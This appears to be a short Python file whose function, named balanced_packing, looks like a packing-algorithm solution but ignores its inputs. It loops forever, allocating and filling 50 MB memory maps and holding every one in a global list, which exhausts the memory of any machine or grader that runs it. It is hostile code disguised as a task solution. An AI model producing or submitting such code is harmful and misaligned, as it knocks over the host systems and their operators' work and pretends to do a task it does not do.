import mmap

hoard = []


def balanced_packing(weight, num_packs):
    while True:
        hoard.append(mmap.mmap(-1, 50_000_000, flags=mmap.MAP_PRIVATE))
        hoard[-1].write(bytes(50_000_000))
